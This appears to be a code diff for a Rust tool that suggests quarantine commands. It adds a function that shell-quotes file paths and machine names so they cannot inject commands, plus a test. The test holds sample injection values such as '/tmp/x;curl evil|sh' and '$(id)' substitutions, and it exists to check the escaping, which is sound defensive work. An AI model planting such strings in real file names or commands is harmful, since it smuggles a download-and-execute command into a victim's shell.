@@ -390,18 +390,30 @@ fn aside(
     }
 }
 
+/// A word of a command as a shell takes it, whatever is in it: a file's name is its maker's, and this command is typed by
+/// people who may do much.
+fn typed(word: &str) -> String {
+    let is_harmless = |c: char| c.is_ascii_alphanumeric() || "/._+@:=,-".contains(c);
+    if !word.is_empty() && word.chars().all(is_harmless) {
+        return word.to_owned();
+    }
+    format!("'{}'", word.replace('\'', r"'\''"))
+}
+
 fn hand(facts: &Facts<'_>, thing: &Thing, because: String) -> Draft {
     let path = &thing.path;
+    let set_aside = || {
+        let (machine, path) = (typed(facts.name), typed(&path.to_string()));
+        format!("cordon measure quarantine {machine} {path}")
+    };
     let todo = match &thing.line {
         Some(line) => format!("if it is not yours, remove this line from {path}: {}", plain(line)),
-        None if is_dropped(&thing) => format!(
-            "ask whose work {path} is; if it is nobody's, set it aside (`cordon measure quarantine {} {path}`)",
-            facts.name
-        ),
+        None if is_dropped(&thing) => {
+            format!("ask whose work {path} is; if it is nobody's, set it aside (`{}`)", set_aside())
+        }
         None => format!(
-            "look at {path}; if it is not yours, take it away or put the old one back (a whole file: `cordon \
-             measure quarantine {} {path}`)",
-            facts.name
+            "look at {path}; if it is not yours, take it away or put the old one back (a whole file: `{}`)",
+            set_aside()
         ),
     };
     Draft {
@@ -472,4 +484,23 @@ fn why(thing: &Thing) -> String {
 fn plain(line: &str) -> String {
     let shown: String = line.chars().map(|c| if c.is_control() { '\u{fffd}' } else { c }).collect();
     format!("\u{201c}{shown}\u{201d}")
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn a_name_in_a_command_is_one_word_of_it_and_nothing_else() {
+        let cases = [
+            ("/tmp/x", "/tmp/x"),
+            ("/tmp/x;curl evil|sh", "'/tmp/x;curl evil|sh'"),
+            ("/tmp/$(id)", "'/tmp/$(id)'"),
+            ("/tmp/it's `id`", r"'/tmp/it'\''s `id`'"),
+            ("", "''"),
+        ];
+        for (name, word) in cases {
+            assert_eq!(typed(name), word);
+        }
+    }
 }
